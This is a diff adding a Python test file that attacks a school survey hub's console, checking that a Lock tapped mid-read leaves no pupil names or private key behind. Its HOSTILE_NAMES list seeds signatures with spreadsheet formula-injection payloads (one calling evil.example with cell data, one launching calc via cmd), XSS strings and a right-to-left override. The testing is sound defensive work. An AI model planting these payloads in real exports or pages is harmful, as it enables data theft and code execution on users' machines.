@@ -1,0 +1,193 @@
+"""Intruders against what the lead's console SHOWS and WRITES (issue 14): Trends, Downloads,
+Agreements and Content, on a real hub folder with answers and signatures sealed to the
+school's key.
+
+The intruders: a **teacher** who watched a pupil at a tablet and can see the console (or a
+screenshot) before and after; someone **comparing two views or exports**; a **technician**
+who later has the laptop (temp folders, the hub folder); **another program** on the hub
+computer speaking Flet's protocol; a **CSV or HTML** file opened in Excel or a browser; a
+hostile **class list** or **content folder**.
+
+The hub's real web side is served by uvicorn and driven over its websocket
+(tests/intruder_console_helpers.py). A slow disk is a named pipe in place of a shard file:
+the console's worker waits on it until the test feeds it the shard's real bytes. Tests
+marked FIXED failed before this branch; the rest are plain tests of what holds.
+"""
+
+from __future__ import annotations
+
+import csv
+import gc
+import hashlib
+import io
+import os
+import shutil
+import subprocess
+import sys
+import time
+import urllib.request
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+import content as shipped
+from exports.export import HIDDEN
+from exports.lead import answer_keys, make_export, released_report, trend_choices, trend_view
+from kiosk.console.desk import ConsoleDesk
+from surveys.agreements.aup import Signer
+from surveys.agreements.sealing import seal_signature
+from surveys.agreements.store import SignatureStore
+from surveys.content.library import load_content
+from surveys.demo import write_demo_data
+from surveys.keys import open_private_key, parse_public_key
+from surveys.storage.responses import ResponseStore
+from tests.intruder_console_helpers import PASSPHRASE, PASSWORD, Console, Served, serve_console
+from tests.surveys.agreements.signatures import signature
+
+LIBRARY = load_content(shipped.SHIPPED_DIR)
+HOSTILE_NAMES = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "+44 1234 cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "<script>alert('pwned')</script>",
+    "<img src=x onerror=alert(1)>",
+    "\u202eevil\u202c Patel",
+]
+
+
+def _fill(folder: Path, public: bytes, responses: int = 600) -> None:
+    """Answers over five years and signatures with hostile names, sealed to the school."""
+    key = parse_public_key(public.decode())
+    with ResponseStore(folder) as store:
+        write_demo_data(store, LIBRARY, responses, seed=5, kiosk_ids=["kiosk-hall"], public=key)
+    ks2, parents = LIBRARY.aups["aup-ks2"], LIBRARY.aups["aup-parents"]
+    with SignatureStore(folder) as store:
+        for n, name in enumerate(HOSTILE_NAMES, start=1):
+            store.save(seal_signature(signature(ks2, n, signer_name=name, class_name="4B"), key))
+        parent = signature(parents, 99, signer=Signer.PARENTS, signer_name="Zainab Okonkwo",
+                           relationship="Mum", child_name="Amira Patel", child_aup=ks2.ref)  # fmt: skip
+        store.save(seal_signature(parent, key))
+
+
+@pytest.fixture
+def served(tmp_path: Path) -> Iterator[Served]:
+    run = serve_console(tmp_path, before=_fill)
+    yield run
+    for slow in SlowShard.made:  # a test that failed midway: no worker is left stuck
+        slow.feed()
+    SlowShard.made.clear()
+    run.stop()
+
+
+def sign_up(run: Served) -> Console:
+    tab = Console(run.ws)
+    tab.wait_for("Choose a password")
+    tab.type("New password", PASSWORD)
+    tab.type("The same password again", PASSWORD)
+    tab.tap("Set the password")
+    tab.wait_for("To do first")
+    return tab
+
+
+def unlock(tab: Console, place: str, shown: str) -> None:
+    tab.tap(place)
+    tab.wait_for("Unlock the school's key")
+    tab.type("Passphrase for the private key", PASSPHRASE)
+    tab.tap("Unlock")
+    tab.wait_for(shown, timeout=60)
+
+
+def desks() -> list[ConsoleDesk]:
+    """The console sessions alive in this process (to look at what each still holds)."""
+    gc.collect()
+    return [o for o in gc.get_objects() if isinstance(o, ConsoleDesk)]
+
+
+class SlowShard:
+    """A shard file turned into a named pipe: whoever reads it waits until :meth:`feed`."""
+
+    made: list[SlowShard] = []
+
+    def __init__(self, path: Path) -> None:
+        self.path, self.data = path, path.read_bytes()
+        self.fd: int | None = None
+        path.unlink()
+        os.mkfifo(path, 0o600)
+        SlowShard.made.append(self)
+
+    def reader_waiting(self, timeout: float = 30) -> None:
+        """Returns once a worker has opened the pipe (it is stuck reading it)."""
+        deadline = time.monotonic() + timeout
+        while True:
+            try:
+                self.fd = os.open(self.path, os.O_WRONLY | os.O_NONBLOCK)
+                return
+            except OSError:  # ENXIO: nobody reads it yet
+                assert time.monotonic() < deadline, "no worker read the shard"
+                time.sleep(0.05)
+
+    def feed(self) -> None:
+        if self in SlowShard.made:
+            SlowShard.made.remove(self)
+        if self.fd is None:
+            try:
+                self.fd = os.open(self.path, os.O_WRONLY | os.O_NONBLOCK)
+            except OSError:  # nobody reads it: put the file back
+                self.fd = None
+        if self.fd is not None:
+            os.set_blocking(self.fd, True)
+            os.write(self.fd, self.data)
+            os.close(self.fd)
+        self.path.unlink()
+        self.path.write_bytes(self.data)
+
+
+# -- a lock while a worker reads ----------------------------------------------------------
+
+
+def test_a_lock_while_the_register_opens_keeps_no_names_and_shows_none(served: Served) -> None:
+    """FIXED: the register opened in a worker was kept and drawn after a Lock tapped
+    meanwhile: the names (and the key) stayed in memory, and the door was replaced by the
+    register for whoever sat at the laptop next."""
+    shard = sorted((served.hub.root / "signatures").rglob("shard-*.json"))[0]
+    tab = sign_up(served)
+    slow = SlowShard(shard)  # after Home, which counts the signatures
+    tab.tap("Agreements")
+    tab.wait_for("Unlock the school's key")
+    tab.type("Passphrase for the private key", PASSPHRASE)
+    tab.tap("Unlock")
+    slow.reader_waiting()
+    tab.tap("Lock")
+    tab.wait_for("Locked. Sign in")
+    slow.feed()
+    time.sleep(3)
+    assert "Sign in" in tab.text()
+    for name in ("Zainab Okonkwo", "Amira Patel", "signed agreement"):
+        assert name not in tab.text()
+    for desk in desks():
+        assert desk._opened is None and desk.school_key is None
+    tab.close()
+
+
+def test_a_lock_while_trends_read_keeps_no_figures_or_key(served: Served) -> None:
+    """FIXED: Trends read in a worker were kept with the answers' keys (the school's
+    private key) after a Lock tapped meanwhile, and the chart was drawn over the door."""
+    key = open_private_key(served.key_file, PASSPHRASE)
+    make_export(served.hub.root, LIBRARY, answer_keys(served.hub.root, key), served.key_file.parent / "pack")
+    tab = sign_up(served)
+    unlock(tab, "Agreements", "Zainab Okonkwo")
+    shard = sorted((served.hub.root / "responses").rglob("shard-*.json"))[0]
+    slow = SlowShard(shard)
+    tab.tap("Trends")
+    slow.reader_waiting()
+    tab.tap("Lock")
+    tab.wait_for("Locked. Sign in")
+    slow.feed()
+    time.sleep(4)
+    assert "Sign in" in tab.text() and "What changed" not in tab.text()
+    for desk in desks():
+        assert desk._released is None and desk.answers is None
+    tab.close()
